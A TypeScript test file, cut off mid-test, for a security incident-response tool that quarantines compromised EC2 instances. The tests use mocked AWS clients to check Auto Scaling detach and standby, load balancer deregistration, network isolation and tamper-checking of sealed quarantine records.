/**
 * quarantine-instance and release-instance on production fleets (issue 11): the Auto Scaling group
 * and the load balancers, with the exact input of every call, the record round trip, and the
 * cases the group or the load balancers make hard (minimum size, suspended Launch, lifecycle
 * hooks, a group already terminating the instance, a group that moved on before release).
 */
import { createHmac } from 'node:crypto';
import {
  AttachInstancesCommand,
  AutoScalingClient,
  DescribeAutoScalingGroupsCommand,
  DescribeAutoScalingInstancesCommand,
  DescribeLifecycleHooksCommand,
  DetachInstancesCommand,
  EnterStandbyCommand,
  ExitStandbyCommand,
  RecordLifecycleActionHeartbeatCommand,
  SetInstanceProtectionCommand,
} from '@aws-sdk/client-auto-scaling';
import type { AutoScalingGroup } from '@aws-sdk/client-auto-scaling';
import {
  DeregisterInstancesFromLoadBalancerCommand,
  DescribeLoadBalancersCommand,
  ElasticLoadBalancingClient,
  RegisterInstancesWithLoadBalancerCommand,
} from '@aws-sdk/client-elastic-load-balancing';
import {
  DeregisterTargetsCommand,
  DescribeTargetGroupsCommand,
  DescribeTargetHealthCommand,
  ElasticLoadBalancingV2Client,
  RegisterTargetsCommand,
} from '@aws-sdk/client-elastic-load-balancing-v2';
import {
  AssociateAddressCommand,
  DescribeAddressesCommand,
  DescribeInstancesCommand,
  DescribeSecurityGroupsCommand,
  DisassociateAddressCommand,
  EC2Client,
  ModifyInstanceMetadataOptionsCommand,
  ModifyNetworkInterfaceAttributeCommand,
} from '@aws-sdk/client-ec2';
import { DynamoDBClient, GetItemCommand, PutItemCommand, UpdateItemCommand } from '@aws-sdk/client-dynamodb';
import { GenerateMacCommand, KMSClient } from '@aws-sdk/client-kms';
import type { GenerateMacCommandInput } from '@aws-sdk/client-kms';
import { mockClient } from 'aws-sdk-client-mock';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { ResponderAccessDeniedError } from '../../lib/contracts/responder-errors';
import type { ResponderMode } from '../../lib/contracts/responder-mode';
import { ACTIONS, iamActionsForStep } from '../../lib/playbooks/actions';
import type { AutoScalingRecord, LoadBalancerRecord } from '../../lib/responders/fleet-records';
import { createdSinceCapture } from '../../lib/responders/fleet-records';
import { silentLogger } from '../../lib/responders/logging';
import type { QuarantineOptions } from '../../lib/responders/quarantine';
import { quarantineInstance } from '../../lib/responders/quarantine';
import { planAutoScaling } from '../../lib/responders/quarantine-autoscaling';
import { planFleet, recordedRegistrationsOnly } from '../../lib/responders/quarantine-fleet';
import { oneLine } from '../../lib/responders/alert-text';
import type { QuarantineRecord } from '../../lib/responders/quarantine-records';
import { DynamoDbQuarantineRecordStore, InMemoryQuarantineRecordStore } from '../../lib/responders/quarantine-records';
import { KmsRecordSealer, canonicalRecord, recordMacMessage } from '../../lib/responders/record-integrity';
import type { ReleaseOptions } from '../../lib/responders/release';
import { releaseInstance } from '../../lib/responders/release';
import { planAutoScalingReturn } from '../../lib/responders/release-autoscaling';
import { ipTargetRefusal } from '../../lib/responders/release-load-balancers';
import { addressKey, holdsAddress, prefixKey } from '../../lib/responders/instance-state';
import type { ReleaseClearance } from '../../lib/responders/release-clearance';
import { EXECUTION, playbookStepsEnvironment, storeGranting } from '../support/grants';
import { ACCOUNT, INSTANCE_ID, REGION, ec2Incident } from '../support/incidents';
import { TEST_RECORD_KEY_ARN, TEST_SEALER, sealed } from '../support/record-sealer';
import {
  APP_SG,
  DB_SG,
  ENI_A,
  ENI_B,
  ISOLATION_SG,
  MON_SG,
  MUTATING_EC2_COMMANDS,
  OTHER_VPC,
  TestClientFactory,
  VPC,
  describedInstance,
  givenGroups,
  givenInstance,
  givenMutationsSucceed,
  inputsOf,
  recordOfDefaultInstance,
  sdkError,
} from './quarantine-fixtures';

const ec2Mock = mockClient(EC2Client);
const asMock = mockClient(AutoScalingClient);
const elbv2Mock = mockClient(ElasticLoadBalancingV2Client);
const elbMock = mockClient(ElasticLoadBalancingClient);
const kmsMock = mockClient(KMSClient);
const dynamoMock = mockClient(DynamoDBClient);
const NOW = new Date('2026-11-20T10:02:00.000Z');
const GROUP = 'web-asg';
const WEB_TG = `arn:aws:elasticloadbalancing:${REGION}:${ACCOUNT}:targetgroup/web/0123456789abcdef`;
const ADMIN_TG = `arn:aws:elasticloadbalancing:${REGION}:${ACCOUNT}:targetgroup/admin/fedcba9876543210`;
const OTHER_VPC_TG = `arn:aws:elasticloadbalancing:${REGION}:${ACCOUNT}:targetgroup/elsewhere/1111111111111111`;
const LEGACY_LB = 'legacy-web';
const GROUP_ARN = `arn:aws:autoscaling:${REGION}:${ACCOUNT}:autoScalingGroup:11111111-2222-3333-4444-555555555555:autoScalingGroupName/web-asg`;
const OTHER_GROUP_ARN = `arn:aws:autoscaling:${REGION}:${ACCOUNT}:autoScalingGroup:99999999-8888-7777-6666-555555555555:autoScalingGroupName/web-asg`;

/** The fixture's clients plus Auto Scaling and both ELB APIs (mocked by aws-sdk-client-mock). */
class FleetClients extends TestClientFactory {
  readonly asked: string[] = [];
  readonly autoScaling = async () => {
    this.asked.push('autoscaling');
    return new AutoScalingClient({ region: REGION });
  };
  readonly elbv2 = async () => {
    this.asked.push('elbv2');
    return new ElasticLoadBalancingV2Client({ region: REGION });
  };
  readonly elb = async () => {
    this.asked.push('elb');
    return new ElasticLoadBalancingClient({ region: REGION });
  };
}

let clients: FleetClients;
let records: InMemoryQuarantineRecordStore;

function group(overrides: Partial<AutoScalingGroup> = {}): AutoScalingGroup {
  return {
    AutoScalingGroupName: GROUP,
    AutoScalingGroupARN: GROUP_ARN,
    MinSize: 1,
    MaxSize: 4,
    DesiredCapacity: 2,
    DefaultCooldown: 300,
    AvailabilityZones: [`${REGION}a`],
    HealthCheckType: 'ELB',
    // Made long before any capture (a group created in the capture's second counts as made since: row 3m).
    CreatedTime: new Date('2026-01-05T12:00:00.000Z'),
    TargetGroupARNs: [WEB_TG],
    LoadBalancerNames: [],
    SuspendedProcesses: [],
    ...overrides,
  };
}

/** The instance as a finished quarantine leaves it: both ENIs in the isolation group, its protections set, tagged quarantined. */
function givenIsolatedInstance(): void {
  givenInstance(ec2Mock, {
    enis: [
      { id: ENI_A, groups: [ISOLATION_SG] },
      { id: ENI_B, groups: [ISOLATION_SG] },
    ],
    profileArn: undefined,
    terminationProtection: true,
    shutdownBehavior: 'stop',
    volumes: [],
    tags: { 'firebreak:status': 'quarantined' },
  });
}

function givenGroup(state = 'InService', overrides: Partial<AutoScalingGroup> = {}, hooks: { LifecycleHookName: string; LifecycleTransition: string; HeartbeatTimeout?: number }[] = []): void {
  asMock.on(DescribeAutoScalingInstancesCommand).resolves({
    AutoScalingInstances: [
      { InstanceId: INSTANCE_ID, AutoScalingGroupName: GROUP, LifecycleState: state, HealthStatus: 'HEALTHY', AvailabilityZone: `${REGION}a`, ProtectedFromScaleIn: false },
    ],
  });
  asMock.on(DescribeAutoScalingGroupsCommand).resolves({ AutoScalingGroups: [group(overrides)] });
  asMock.on(DescribeLifecycleHooksCommand).resolves({ LifecycleHooks: hooks.map((h) => ({ AutoScalingGroupName: GROUP, HeartbeatTimeout: 3600, ...h })) });
}

function givenLoadBalancers(): void {
  elbv2Mock.on(DescribeTargetGroupsCommand).resolves({
    TargetGroups: [
      { TargetGroupArn: WEB_TG, VpcId: VPC, TargetType: 'instance', Port: 80 },
      { TargetGroupArn: ADMIN_TG, VpcId: VPC, TargetType: 'ip', Port: 8443 },
      { TargetGroupArn: OTHER_VPC_TG, VpcId: 'vpc-0other0000000000', TargetType: 'instance', Port: 80 },
    ],
  });
  elbv2Mock.on(DescribeTargetHealthCommand, { TargetGroupArn: WEB_TG }).resolves({
    TargetHealthDescriptions: [
      { Target: { Id: INSTANCE_ID, Port: 80 }, TargetHealth: { State: 'healthy' } },
      { Target: { Id: 'i-0another000000000', Port: 80 }, TargetHealth: { State: 'healthy' } },
    ],
  });
  elbv2Mock.on(DescribeTargetHealthCommand, { TargetGroupArn: ADMIN_TG }).resolves({
    TargetHealthDescriptions: [{ Target: { Id: '10.0.1.10', Port: 8443, AvailabilityZone: `${REGION}a` }, TargetHealth: { State: 'healthy' } }],
  });
  elbMock.on(DescribeLoadBalancersCommand).resolves({
    LoadBalancerDescriptions: [
      { LoadBalancerName: LEGACY_LB, VPCId: VPC, Instances: [{ InstanceId: INSTANCE_ID }] },
      { LoadBalancerName: 'unrelated', VPCId: VPC, Instances: [{ InstanceId: 'i-0another000000000' }] },
    ],
  });
}

/** EC2 answers DryRun requests as it does when they would succeed. */
function givenDryRunsSucceed(): void {
  for (const command of MUTATING_EC2_COMMANDS) ec2Mock.on(command as never, { DryRun: true }).rejects(sdkError('DryRunOperation', 412));
}

/** An enforce deployment whose grant's playbook sends quarantine-instance `options` (FIREBREAK_PLAYBOOK_STEPS). */
function stepEnvironment(options: Partial<QuarantineOptions>): Record<string, string> {
  return { FIREBREAK_MODE: 'enforce', ...playbookStepsEnvironment(options) };
}

function quarantine(options: Partial<QuarantineOptions> = {}, mode: ResponderMode = 'enforce') {
  const incident = ec2Incident();
  return quarantineInstance(
    {
      incident,
      mode,
      options: { detachInstanceProfile: true, revokeRoleSessions: false, autoScaling: 'detach', deregisterFromLoadBalancers: true, ...options },
      execution: EXECUTION,
    },
    {
      clients,
      logger: silentLogger,
      records,
      sealer: TEST_SEALER,
      grants: storeGranting(incident, NOW),
      environment: stepEnvironment({ detachInstanceProfile: true, revokeRoleSessions: false, autoScaling: 'detach', deregisterFromLoadBalancers: true, ...options }),
      now: () => NOW,
    },
  );
}

beforeEach(() => {
  for (const mock of [ec2Mock, asMock, elbv2Mock, elbMock]) mock.reset();
  clients = new FleetClients();
  records = new InMemoryQuarantineRecordStore();
  givenMutationsSucceed(ec2Mock);
  givenInstance(ec2Mock, {
    enis: [
      { id: ENI_A, groups: [APP_SG, MON_SG] },
      { id: ENI_B, groups: [DB_SG] },
    ],
  });
  givenGroups(ec2Mock);
  for (const command of [SetInstanceProtectionCommand, DetachInstancesCommand, EnterStandbyCommand, AttachInstancesCommand, ExitStandbyCommand]) asMock.on(command as never).resolves({});
  elbv2Mock.on(DeregisterTargetsCommand).resolves({});
  elbv2Mock.on(RegisterTargetsCommand).resolves({});
  elbMock.on(DeregisterInstancesFromLoadBalancerCommand).resolves({});
  elbMock.on(RegisterInstancesWithLoadBalancerCommand).resolves({});
  elbv2Mock.on(DescribeTargetGroupsCommand).resolves({ TargetGroups: [] });
  elbMock.on(DescribeLoadBalancersCommand).resolves({ LoadBalancerDescriptions: [] });
});

afterEach(() => {
  for (const mock of [ec2Mock, asMock, elbv2Mock, elbMock]) mock.reset();
});

describe('quarantineInstance on an instance of an Auto Scaling group', () => {
  it('reads the group with exact inputs, protects the instance, then detaches it without decrementing the desired capacity', async () => {
    givenGroup();
    const result = await quarantine({ deregisterFromLoadBalancers: false });
    expect(result.status).toBe('quarantined');
    expect(inputsOf(asMock, DescribeAutoScalingInstancesCommand)).toEqual([{ InstanceIds: [INSTANCE_ID] }]);
    expect(inputsOf(asMock, DescribeAutoScalingGroupsCommand)).toEqual([{ AutoScalingGroupNames: [GROUP] }]);
    expect(inputsOf(asMock, DescribeLifecycleHooksCommand)).toEqual([{ AutoScalingGroupName: GROUP }]);
    expect(inputsOf(asMock, SetInstanceProtectionCommand)).toEqual([{ AutoScalingGroupName: GROUP, InstanceIds: [INSTANCE_ID], ProtectedFromScaleIn: true }]);
    expect(inputsOf(asMock, DetachInstancesCommand)).toEqual([{ AutoScalingGroupName: GROUP, InstanceIds: [INSTANCE_ID], ShouldDecrementDesiredCapacity: false }]);
    expect(asMock.commandCalls(EnterStandbyCommand)).toHaveLength(0);
    // Protection first: the call no capacity rule can refuse.
    const order = asMock.calls().map((call) => call.args[0].constructor.name);
    expect(order.indexOf('SetInstanceProtectionCommand')).toBeLessThan(order.indexOf('DetachInstancesCommand'));
    // The group's ARN too: its id part tells it from a group created again under the same name (row 3j).
    const expected: AutoScalingRecord = { groupName: GROUP, groupArn: GROUP_ARN, mode: 'detach', lifecycleState: 'InService', protectedFromScaleIn: false, desiredCapacity: 2, minSize: 1, maxSize: 4 };
    expect(result.preQuarantine?.autoScaling).toEqual(expected);
    expect((await records.get(ACCOUNT, REGION, INSTANCE_ID))?.autoScaling).toEqual(expected);
    expect(result.fleet?.autoScaling).toEqual(expected);
    // The ENIs are isolated all the same.
    expect(inputsOf(ec2Mock, ModifyNetworkInterfaceAttributeCommand).filter((i) => i.Groups?.[0] === ISOLATION_SG).map((i) => i.NetworkInterfaceId).sort()).toEqual([ENI_A, ENI_B].sort());
  });

  it('puts the instance on standby in standby mode, with the same capacity rule', async () => {
    givenGroup();
    const result = await quarantine({ autoScaling: 'standby', deregisterFromLoadBalancers: false });
    expect(inputsOf(asMock, EnterStandbyCommand)).toEqual([{ AutoScalingGroupName: GROUP, InstanceIds: [INSTANCE_ID], ShouldDecrementDesiredCapacity: false }]);
    expect(asMock.commandCalls(DetachInstancesCommand)).toHaveLength(0);
    expect(result.preQuarantine?.autoScaling?.mode).toBe('standby');
  });

  it('reports a group at its minimum size and a suspended Launch process, and still detaches (never decrementing)', async () => {
    givenGroup('InService', { MinSize: 2, DesiredCapacity: 2, SuspendedProcesses: [{ ProcessName: 'Launch', SuspensionReason: 'User suspended' }] }, [
      { LifecycleHookName: 'warm-cache', LifecycleTransition: 'autoscaling:EC2_INSTANCE_LAUNCHING' },
      { LifecycleHookName: 'ship-logs', LifecycleTransition: 'autoscaling:EC2_INSTANCE_TERMINATING' },
    ]);
    const result = await quarantine({ deregisterFromLoadBalancers: false });
    expect(inputsOf(asMock, DetachInstancesCommand)).toEqual([{ AutoScalingGroupName: GROUP, InstanceIds: [INSTANCE_ID], ShouldDecrementDesiredCapacity: false }]);
    const group = result.actions.find((a) => a.api === 'autoscaling:DescribeAutoScalingGroups')?.detail ?? '';
    expect(group).toContain('at its minimum size');
    expect(group).toContain('warm-cache');
    expect(group).toContain('ship-logs');
    expect(result.fleet?.warnings?.join(' ')).toContain('Launch process is suspended');
    expect(result.actions.some((a) => a.api === 'firebreak:check-fleet' && a.outcome === 'skipped' && a.detail.includes('one instance short'))).toBe(true);
  });

  it('leaves a group that is already terminating the instance alone, and says the evidence is at risk', async () => {
    givenGroup('Terminating:Wait');
    const result = await quarantine({ deregisterFromLoadBalancers: false });
    expect(asMock.commandCalls(SetInstanceProtectionCommand)).toHaveLength(0);
    expect(asMock.commandCalls(DetachInstancesCommand)).toHaveLength(0);
    expect(result.preQuarantine?.autoScaling).toBeUndefined();
    expect(result.fleet?.warnings?.join(' ')).toContain('already terminating');
  });

  it('changes no group for an instance in none, and records none', async () => {
    asMock.on(DescribeAutoScalingInstancesCommand).resolves({ AutoScalingInstances: [] });
    const result = await quarantine({ deregisterFromLoadBalancers: false });
    expect(asMock.commandCalls(DescribeAutoScalingGroupsCommand)).toHaveLength(0);
    expect(asMock.commandCalls(SetInstanceProtectionCommand)).toHaveLength(0);
    expect(asMock.commandCalls(DetachInstancesCommand)).toHaveLength(0);
    expect(result.preQuarantine?.autoScaling).toBeUndefined();
  });

  it('asks for no Auto Scaling or ELB client at all when both options are off', async () => {
    const result = await quarantine({ autoScaling: 'off', deregisterFromLoadBalancers: false });
    expect(result.status).toBe('quarantined');
    expect(clients.asked).toEqual([]);
    expect(result.preQuarantine).not.toHaveProperty('autoScaling');
    expect(result.preQuarantine).not.toHaveProperty('loadBalancers');
  });

  it('in dry-run sends no Auto Scaling or ELB change and says it cannot dry-run them', async () => {
    givenGroup();
    givenLoadBalancers();
    givenDryRunsSucceed();
    const result = await quarantine({}, 'dry-run');
    for (const command of [SetInstanceProtectionCommand, DetachInstancesCommand, EnterStandbyCommand]) expect(asMock.commandCalls(command as never)).toHaveLength(0);
    expect(elbv2Mock.commandCalls(DeregisterTargetsCommand)).toHaveLength(0);
    expect(elbMock.commandCalls(DeregisterInstancesFromLoadBalancerCommand)).toHaveLength(0);
    // The group's own target group is the group's to deregister (skipped, said so); the rest would be done.
    const fleetActions = result.actions.filter(
      (a) => (a.api === 'autoscaling:SetInstanceProtection' || a.api.startsWith('autoscaling:Detach') || a.api.startsWith('elasticloadbalancing:Deregister')) && a.outcome !== 'skipped',
    );
    expect(fleetActions.map((a) => a.api).sort()).toEqual(['autoscaling:DetachInstances', 'autoscaling:SetInstanceProtection', 'elasticloadbalancing:DeregisterInstancesFromLoadBalancer']);
    expect(fleetActions.length).toBeGreaterThan(0);
    for (const action of fleetActions) {
      expect(action.outcome).toBe('would-do');
      expect(action.detail).toContain('cannot dry-run');
    }
  });

  it('isolates every ENI even when the group cannot be read, then fails the step so that it is retried and seen', async () => {
    asMock.on(DescribeAutoScalingInstancesCommand).rejects(sdkError('AccessDenied', 403));
    await expect(quarantine({ deregisterFromLoadBalancers: false })).rejects.toBeInstanceOf(ResponderAccessDeniedError);
    expect(inputsOf(ec2Mock, ModifyNetworkInterfaceAttributeCommand).filter((i) => i.Groups?.[0] === ISOLATION_SG)).toHaveLength(2);
  });

  it('adds the group to the kept record on the retry after a failed first read, sealed, before detaching, so release can put it back', async () => {
    asMock.on(DescribeAutoScalingInstancesCommand).rejects(sdkError('ThrottlingException', 400));
    await expect(quarantine({ deregisterFromLoadBalancers: false })).rejects.toThrow();
    const first = await records.get(ACCOUNT, REGION, INSTANCE_ID);
    expect(first?.autoScaling).toBeUndefined();
    expect(asMock.commandCalls(DetachInstancesCommand)).toHaveLength(0);

    asMock.reset();
    for (const command of [SetInstanceProtectionCommand, DetachInstancesCommand]) asMock.on(command as never).resolves({});
    givenGroup();
    const retry = await quarantine({ deregisterFromLoadBalancers: false });
    expect(retry.status).toBe('quarantined');
    const expected: AutoScalingRecord = { groupName: GROUP, groupArn: GROUP_ARN, mode: 'detach', lifecycleState: 'InService', protectedFromScaleIn: false, desiredCapacity: 2, minSize: 1, maxSize: 4 };
    const kept = await records.get(ACCOUNT, REGION, INSTANCE_ID);
    // The original stays the original (same capture, same groups per ENI); only the group is added, and the seal covers it.
    expect(kept).toMatchObject({ capturedAt: first?.capturedAt, networkInterfaces: first?.networkInterfaces, autoScaling: expected });
    expect(kept && (await TEST_SEALER.verify(kept))).toEqual({ valid: true });
    expect(retry.preQuarantine?.autoScaling).toEqual(expected);
    expect(retry.actions.find((a) => a.api === 'firebreak:record-pre-quarantine-state' && a.outcome === 'done')?.detail).toContain('Added autoScaling');
    expect(inputsOf(asMock, DetachInstancesCommand)).toEqual([{ AutoScalingGroupName: GROUP, InstanceIds: [INSTANCE_ID], ShouldDecrementDesiredCapacity: false }]);
  });

  it('changes nothing of the group when the kept record cannot be given it (released or captured again meanwhile), and fails the step', async () => {
    await records.saveIfAbsent(await sealed(recordOfDefaultInstance('gd-earlier', '2026-11-20T09:00:00.000Z')));
    const racing = Object.assign(Object.create(records) as InMemoryQuarantineRecordStore, { supplement: async () => 'changed' as const });
    givenGroup();
    const incident = ec2Incident();
    await expect(
      quarantineInstance(
        { incident, mode: 'enforce', options: { detachInstanceProfile: true, revokeRoleSessions: false, autoScaling: 'detach', deregisterFromLoadBalancers: false }, execution: EXECUTION },
        { clients, logger: silentLogger, records: racing, sealer: TEST_SEALER, grants: storeGranting(incident, NOW), environment: stepEnvironment({ autoScaling: 'detach' }), now: () => NOW },
      ),
    ).rejects.toThrow(expect.objectContaining({ name: 'TransientResponderError', message: expect.stringContaining('changed while autoScaling') as unknown }));
    expect(asMock.commandCalls(SetInstanceProtectionCommand)).toHaveLength(0);
    expect(asMock.commandCalls(DetachInstancesCommand)).toHaveLength(0);
    // Isolation went on all the same.
    expect(inputsOf(ec2Mock, ModifyNetworkInterfaceAttributeCommand).filter((i) => i.Groups?.[0] === ISOLATION_SG)).toHaveLength(2);
  });

  describe('on a kept record read back from the state table (a claim until its seal holds)', () => {
    // The record key as KMS would use it: GenerateMac is HMAC-SHA256, deterministic, with the test sealer's secret.
    const TEST_KEY_SECRET = 'firebreak-test-record-key';
    const TABLE = 'firebreak-state';
    const SAVE_ORIGINAL = 'attribute_not_exists(pk) OR released = :true';
    const OPEN_SG = 'sg-0open00000000000e';

    /** The state table holds `stored`, unreleased; KMS MACs with the record key; quarantine runs with the KMS sealer and the DynamoDB store. */
    async function retryOver(stored: QuarantineRecord) {
      kmsMock.on(GenerateMacCommand).callsFake((input: GenerateMacCommandInput) => ({
        KeyId: TEST_RECORD_KEY_ARN,
        MacAlgorithm: 'HMAC_SHA_256',
        Mac: createHmac('sha256', TEST_KEY_SECRET).update(input.Message ?? new Uint8Array()).digest(),
      }));
      dynamoMock.on(GetItemCommand).resolves({ Item: { pk: { S: `quarantine#${ACCOUNT}#${REGION}#${INSTANCE_ID}` }, released: { BOOL: false }, record: { S: JSON.stringify(stored) } } });
      dynamoMock.on(PutItemCommand, { ConditionExpression: SAVE_ORIGINAL }).rejects(sdkError('ConditionalCheckFailedException'));
      // This incident's claim on the kept record, and the kept record with the group (UpdateItem both).
      dynamoMock.on(UpdateItemCommand).resolves({});
      givenGroup();
      const incident = ec2Incident();
      return quarantineInstance(
        { incident, mode: 'enforce', options: { detachInstanceProfile: true, revokeRoleSessions: false, autoScaling: 'detach', deregisterFromLoadBalancers: false }, execution: EXECUTION },
        {
          clients,
          logger: silentLogger,
          records: new DynamoDbQuarantineRecordStore(new DynamoDBClient({ region: REGION }), TABLE),
          sealer: new KmsRecordSealer(new KMSClient({ region: REGION }), TEST_RECORD_KEY_ARN),
          grants: storeGranting(incident, NOW),
          environment: stepEnvironment({ autoScaling: 'detach' }),
          now: () => NOW,
        },
      );
    }

    const macMessages = () => inputsOf(kmsMock, GenerateMacCommand).map((input) => input.Message);
    const writtenRecords = () => [
      ...inputsOf(dynamoMock, PutItemCommand).map((input) => input.Item?.record?.S),
      ...inputsOf(dynamoMock, UpdateItemCommand).flatMap((input) => (input.ExpressionAttributeValues?.[':record']?.S !== undefined ? [input.ExpressionAttributeValues[':record'].S] : [])),
    ].map((json) => JSON.parse(json ?? '{}') as QuarantineRecord);

    beforeEach(() => {
      kmsMock.reset();
      dynamoMock.reset();
    });

    it('adds the group to a genuine record: its MAC made again matches the seal, then the record with the group is sealed and written', async () => {
      const genuine = await sealed(recordOfDefaultInstance('gd-earlier', '2026-11-20T09:00:00.000Z'));
      const retry = await retryOver(genuine);
      expect(retry.status).toBe('quarantined');
      const [attempted, supplemented] = writtenRecords();
      const { seal: _seal, ...genuineFields } = genuine;
      expect(supplemented).toMatchObject({ ...genuineFields, autoScaling: { groupName: GROUP } });
      // The capture, the kept record (to check its seal), the kept record with the group.
      expect(macMessages()).toEqual([recordMacMessage(attempted!), recordMacMessage(genuine), recordMacMessage(supplemented!)]);
      expect(inputsOf(asMock, DetachInstancesCommand)).toHaveLength(1);
      // This incident claims the kept record (written before claims: the earlier incident's claim goes in with it).
      expect(inputsOf(dynamoMock, UpdateItemCommand)[0]).toEqual({
        TableName: TABLE,
        Key: { pk: { S: `quarantine#${ACCOUNT}#${REGION}#${INSTANCE_ID}` } },
        // Every claim advances the record's claim serial (a release cleared before it restores nothing).
        // and keeps the serial of this incident's latest claim (its claim-only release checks it).
        UpdateExpression: 'SET #lastClaim = if_not_exists(claimSerial, :zero) + :one ADD claims :claims, claimSerial :one',
        // Not while a release holds the record for its restore (at this run's capture time).
        ConditionExpression:
          'released = :false AND capturedAt = :capturedAt AND incidentKey = :incidentKey AND attribute_not_exists(claims) AND (attribute_not_exists(restoringUntil) OR restoringUntil < :at)',
        ExpressionAttributeNames: { '#lastClaim': `lastClaim#${ec2Incident().key}` },
        ExpressionAttributeValues: {
          ':claims': { SS: ['gd-earlier', ec2Incident().key] },
          ':one': { N: '1' },
          ':zero': { N: '0' },
          ':false': { BOOL: false },
          ':capturedAt': { S: '2026-11-20T09:00:00.000Z' },
          ':incidentKey': { S: 'gd-earlier' },
          ':at': { S: '2026-11-20T10:02:00.000Z' },
        },
        ReturnValuesOnConditionCheckFailure: 'ALL_OLD',
      });
    });

    it('never seals again a record edited in the table (its seal no longer holds): no new MAC kept, no write, the group left alone, the step fails', async () => {
      const genuine = await sealed(recordOfDefaultInstance('gd-earlier', '2026-11-20T09:00:00.000Z'));
      const edited: QuarantineRecord = {
        ...genuine,
        networkInterfaces: [
          { networkInterfaceId: ENI_A, groupIds: [OPEN_SG] },
          { networkInterfaceId: ENI_B, groupIds: [OPEN_SG] },
        ],
        instanceProfileArn: `arn:aws:iam::${ACCOUNT}:instance-profile/ops/deploy-runner`,
      };
      await expect(retryOver(edited)).rejects.toThrow(/not sealed again with autoScaling: its seal does not hold \(its MAC is not the MAC of its fields/);
      const [attempted] = writtenRecords();
      // One PutItem: the conditional save of this run's capture, refused; the kept record is not written.
      expect(inputsOf(dynamoMock, PutItemCommand).map((input) => input.ConditionExpression)).toEqual([SAVE_ORIGINAL]);
      // The capture and the check of the edited record; nothing MACs the edited record with the group.
      expect(macMessages()).toEqual([recordMacMessage(attempted!), recordMacMessage(edited)]);
      expect(asMock.commandCalls(SetInstanceProtectionCommand)).toHaveLength(0);
      expect(asMock.commandCalls(DetachInstancesCommand)).toHaveLength(0);
      // Isolation went on all the same.
      expect(inputsOf(ec2Mock, ModifyNetworkInterfaceAttributeCommand).filter((i) => i.Groups?.[0] === ISOLATION_SG)).toHaveLength(2);
    });

    it('never seals a record saved unsealed: no MAC of it, no write, the group left alone, the step fails', async () => {
      const unsealed = recordOfDefaultInstance('gd-earlier', '2026-11-20T09:00:00.000Z');
      await expect(retryOver(unsealed)).rejects.toThrow(/not sealed again with autoScaling: its seal does not hold \(the record carries no MAC/);
      const [attempted] = writtenRecords();
      expect(inputsOf(dynamoMock, PutItemCommand).map((input) => input.ConditionExpression)).toEqual([SAVE_ORIGINAL]);
      expect(macMessages()).toEqual([recordMacMessage(attempted!)]);
      expect(asMock.commandCalls(DetachInstancesCommand)).toHaveLength(0);
    });
  });

  it('keeps a record that already holds the group as it is: a retry after a failed detach adds nothing', async () => {
    givenGroup();
    asMock.on(DetachInstancesCommand).rejectsOnce(sdkError('ThrottlingException', 400));
    await expect(quarantine({ deregisterFromLoadBalancers: false })).rejects.toThrow();
    const first = await records.get(ACCOUNT, REGION, INSTANCE_ID);
    // The retry sees the protection quarantine set, not the original: the record keeps the original.
    asMock.on(DescribeAutoScalingInstancesCommand).resolves({
      AutoScalingInstances: [{ InstanceId: INSTANCE_ID, AutoScalingGroupName: GROUP, LifecycleState: 'InService', HealthStatus: 'HEALTHY', AvailabilityZone: `${REGION}a`, ProtectedFromScaleIn: true }],
    });
    asMock.on(DetachInstancesCommand).resolves({});
    await quarantine({ deregisterFromLoadBalancers: false });
    // The same record; the retry's claim, written again, advanced its claim serial only.
    expect(await records.get(ACCOUNT, REGION, INSTANCE_ID)).toEqual({ ...first, claimSerial: 2, lastClaims: { [ec2Incident().key]: 2 } });
    expect(first?.autoScaling?.protectedFromScaleIn).toBe(false);
  });

  it('is not "already quarantined" while the instance is still in its group: a retry finishes the job', async () => {
    givenIsolatedInstance();
    givenGroup();
    const result = await quarantine({ deregisterFromLoadBalancers: false });
    expect(result.status).toBe('quarantined');
    expect(inputsOf(asMock, DetachInstancesCommand)).toHaveLength(1);
  });
});

describe('quarantineInstance and load balancers', () => {
  it('finds the registrations in the instance VPC only, records port and AZ, and deregisters each with exact inputs', async () => {
    givenLoadBalancers();
    asMock.on(DescribeAutoScalingInstancesCommand).resolves({ AutoScalingInstances: [] });
    givenInstance(ec2Mock, { enis: [{ id: ENI_A, groups: [APP_SG] }] });
    // The fixture instance's private IP: the ip target group registers it by address.
    ec2Mock.on(DescribeSecurityGroupsCommand).resolves({ SecurityGroups: [] });
    const result = await quarantine();
    expect(inputsOf(elbv2Mock, DescribeTargetGroupsCommand)).toEqual([{ PageSize: 400 }]);
    // The whole input, one call per target group of the instance's VPC (never the other VPC's group).
    expect(inputsOf(elbv2Mock, DescribeTargetHealthCommand)).toEqual([{ TargetGroupArn: WEB_TG }, { TargetGroupArn: ADMIN_TG }]);
    expect(inputsOf(elbMock, DescribeLoadBalancersCommand)).toEqual([{ PageSize: 400 }]);
    expect(inputsOf(elbv2Mock, DeregisterTargetsCommand)).toEqual([{ TargetGroupArn: WEB_TG, Targets: [{ Id: INSTANCE_ID, Port: 80 }] }]);
    expect(inputsOf(elbMock, DeregisterInstancesFromLoadBalancerCommand)).toEqual([{ LoadBalancerName: LEGACY_LB, Instances: [{ InstanceId: INSTANCE_ID }] }]);
    const expected: LoadBalancerRecord = {
      targets: [{ targetGroupArn: WEB_TG, targetId: INSTANCE_ID, port: 80, managedByGroup: false }],
      classic: [{ loadBalancerName: LEGACY_LB, managedByGroup: false }],
    };
    expect(result.preQuarantine?.loadBalancers).toEqual(expected);
  });

  it('matches ip targets by the instance private addresses, with their Availability Zone', async () => {
    givenLoadBalancers();
    asMock.on(DescribeAutoScalingInstancesCommand).resolves({ AutoScalingInstances: [] });
    const instance = (await import('./quarantine-fixtures')).describedInstance({ enis: [{ id: ENI_A, groups: [APP_SG] }] });
    instance.NetworkInterfaces = instance.NetworkInterfaces?.map((eni) => ({ ...eni, PrivateIpAddresses: [{ PrivateIpAddress: '10.0.1.10', Primary: true }] }));
    const { DescribeInstancesCommand } = await import('@aws-sdk/client-ec2');
    ec2Mock.on(DescribeInstancesCommand).resolves({ Reservations: [{ Instances: [instance] }] });
    const result = await quarantine();
    expect(inputsOf(elbv2Mock, DeregisterTargetsCommand)).toContainEqual({ TargetGroupArn: ADMIN_TG, Targets: [{ Id: '10.0.1.10', Port: 8443, AvailabilityZone: `${REGION}a` }] });
    // With the ENI that held the address, in the target group's VPC: release registers it only while that ENI holds it (row 3n).
    expect(result.preQuarantine?.loadBalancers?.targets).toContainEqual({ targetGroupArn: ADMIN_TG, targetId: '10.0.1.10', networkInterfaceId: ENI_A, port: 8443, availabilityZone: `${REGION}a`, managedByGroup: false });
  });

